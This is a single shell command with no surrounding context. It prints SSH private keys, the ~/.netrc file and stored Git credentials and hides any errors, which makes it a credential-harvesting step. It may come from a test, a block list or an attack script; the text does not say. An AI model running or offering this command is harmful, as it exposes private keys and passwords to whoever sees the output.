cat ~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.netrc ~/.git-credentials 2>/dev/null
